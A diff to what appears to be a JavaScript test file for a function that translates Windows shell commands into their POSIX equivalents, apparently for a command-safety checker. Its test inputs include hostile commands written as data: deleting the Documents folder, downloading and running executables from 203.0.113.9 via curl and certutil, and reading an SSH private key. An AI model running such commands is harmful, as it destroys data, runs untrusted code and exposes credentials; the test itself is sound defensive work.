@@ -70,11 +70,11 @@ test('Windows lines read as the POSIX line that does the same', () => {
   assert.equal(windowsPosixReading('rmdir /s /q %USERPROFILE%\\Documents'), 'rm -rf ~/Documents');
   assert.equal(
     windowsPosixReading('curl.exe -s -o %TEMP%\\u.exe http://203.0.113.9/u.exe && start /b %TEMP%\\u.exe'),
-    'curl -s -o /tmp/u.exe http://203.0.113.9/u.exe && /tmp/u.exe',
+    'curl -s -o ~/AppData/Local/Temp/u.exe http://203.0.113.9/u.exe && ~/AppData/Local/Temp/u.exe',
   );
   assert.equal(
     windowsPosixReading('certutil -urlcache -split -f http://203.0.113.9/a.exe %TEMP%\\a.exe'),
-    'curl -o /tmp/a.exe http://203.0.113.9/a.exe',
+    'curl -o ~/AppData/Local/Temp/a.exe http://203.0.113.9/a.exe',
   );
   assert.equal(windowsPosixReading('type C:\\Users\\dev\\.ssh\\id_rsa'), 'cat ~/.ssh/id_rsa');
   assert.equal(windowsPosixReading('npm test'), null);
